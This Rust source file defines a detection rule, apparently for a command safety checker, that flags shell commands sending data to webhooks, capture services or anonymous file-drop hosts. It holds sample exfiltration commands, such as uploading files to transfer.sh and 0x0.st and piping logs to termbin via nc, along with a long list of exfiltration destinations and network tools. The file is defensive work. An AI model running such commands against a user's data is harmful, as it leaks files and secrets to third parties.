//! Data sent to a webhook, message bot or request-capture service (Slack
//! and Discord webhooks, Telegram bots, webhook.site, requestbin, interactsh,
//! anonymous file drops).

use crate::rules::prelude::*;
use crate::rules::shared::transfer::{destinations, url_host};

pub(crate) static RULE: Rule = Rule {
    code: "EXF007",
    name: "capture-endpoint-contacted",
    category: Category::Exfiltration,
    decision: Decision::Ask,
    commands: &["curl", "curlie", "wget", "wget2", "http", "https", "httpie", "xh", "xhs", "nc", "ncat", "netcat", "socat", "websocat"],
    summary: "sends data to a webhook or request-capture service",
    why: "These endpoints hand whatever they receive to a third party; they are a common exfiltration drop.",
    check,
    fires: &[
        "curl -X POST -H 'Content-type: application/json' -d '{\"text\":\"done\"}' https://hooks.slack.com/services/T0/B0/XX",
        "curl -d content=hi https://discord.com/api/webhooks/1/abc",
        "curl https://webhook.site/4f1c-22?d=x",
        "wget -q https://abc.oastify.com/ping",
        "curl \"https://api.telegram.org/bot123:AA/sendMessage?chat_id=1&text=hi\"",
        "curl --upload-file out.txt https://transfer.sh/out.txt",
        "curl -F file=@a.zip https://0x0.st",
        "sudo curl -d x=1 https://eo1abc.m.pipedream.net",
        "cat out.log | nc termbin.com 9999",
    ],
    passes: &["curl https://api.github.com/repos/o/r", "curl -s https://slack.com/api/api.test", "wget https://example.com/file.tgz"],
};

const CAPTURE_HOSTS: &[&str] = &[
    "hooks.slack.com",
    "discord.com",
    "discordapp.com",
    "api.telegram.org",
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "pipedream.net",
    "requestcatcher.com",
    "beeceptor.com",
    "hookbin.com",
    "interact.sh",
    "interactsh.com",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.fun",
    "oast.me",
    "oastify.com",
    "burpcollaborator.net",
    "canarytokens.com",
    "dnslog.cn",
    "ceye.io",
    "transfer.sh",
    "0x0.st",
    "file.io",
    "bashupload.com",
    "temp.sh",
    "oshi.at",
    "catbox.moe",
    "litterbox.catbox.moe",
    "gofile.io",
    "paste.rs",
    "termbin.com",
    "ix.io",
    "sprunge.us",
    "hastebin.com",
    "dpaste.com",
    "dpaste.org",
    "paste.ee",
    "pastebin.com",
    "hooks.zapier.com",
    "maker.ifttt.com",
    "webhook.office.com",
    "ngrok-free.app",
    "ngrok.io",
    "ngrok.app",
    "serveo.net",
    "loca.lt",
    "trycloudflare.com",
    "requestinspector.com",
    "postb.in",
    "ptsv2.com",
    "ptsv3.com",
    "mockbin.org",
];

fn capture_host(host: &str) -> bool {
    CAPTURE_HOSTS.iter().any(|h| host == *h || host.ends_with(&format!(".{h}")))
}

fn check(cmd: &Command, _cx: &Context<'_>) -> Option<Hit> {
    let dest = destinations(cmd).into_iter().find(|w| {
        let Some(host) = url_host(&w.text) else { return false };
        if !capture_host(&host) {
            return false;
        }
        // Discord and Office only relay through their webhook paths.
        !matches!(host.as_str(), "discord.com" | "discordapp.com") || w.text.contains("/api/webhooks")
    })?;
    Some(Hit::on(dest).with_message(format!("`{}` sends data to `{}`, a webhook or capture service", cmd.name, url_host(&dest.text).unwrap_or_default())))
}
